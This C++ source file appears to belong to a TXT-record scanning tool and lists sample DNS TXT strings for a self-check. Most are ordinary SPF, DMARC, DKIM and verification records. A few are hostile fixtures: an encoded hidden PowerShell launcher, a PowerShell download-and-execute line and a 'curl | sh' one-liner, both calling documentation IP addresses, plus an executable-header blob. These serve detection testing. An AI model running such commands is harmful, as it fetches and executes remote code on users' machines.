#include "core/pipeline/self_check/sample_texts.h"

namespace txtsentry::pipeline {
namespace {

constexpr std::string_view kTexts[] = {
    "v=spf1 include:_spf.example.com include:mail.example.net ip4:192.0.2.0/24 -all",
    "v=spf1 a mx ptr ip6:2001:db8::/32 redirect=_spf.example.org",
    "v=DMARC1; p=quarantine; sp=none; rua=mailto:dmarc@example.com; pct=50; adkim=s",
    "v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC5N3lnvvrYgPCRSoqn7w",
    "v=BIMI1; l=https://brand.example.com/logo.svg; a=",
    "v=TLSRPTv1; rua=mailto:tls@example.com",
    "google-site-verification=rXOxyZounnZasA8Z7oaD3c14JdjS9aKSWvsR1EbUSIQ",
    "MS=ms52917034",
    "atlassian-domain-verification=9Vb2q0yCqM8rXw1Zk3Qn7Jt5Lh4Gd6Fs",
    "some-vendor-domain-verification: 7f9c24e5c1b04d2e8a6b3d1f0e5c7a9b",
    "k=v1;token=0123456789abcdef;expires=2030-01-01T00:00:00Z",
    "b10a8db164e0754105b7a99be72e3fe5d41d8cd98f00b204e9800998ecf8427e",
    "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "v=spf1 5f7a0c99e1d24b0d8bb16d3fd2a94b7cc0ffee00deadbeef0123456789abcdef",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')",
    "curl -s http://198.51.100.7/x.sh | sh",
    "The quick brown fox jumps over the lazy dog; contact hostmaster at example dot org",
    "txtvers=1 qtotal=1 rp=ipp/print ty=Example Printer note=2nd floor",
    "64496 | 203.0.113.0/24 | ZZ | example | 2020-02-02",
};

}  // namespace

absl::Span<const std::string_view> SampleTexts() { return kTexts; }

}  // namespace txtsentry::pipeline
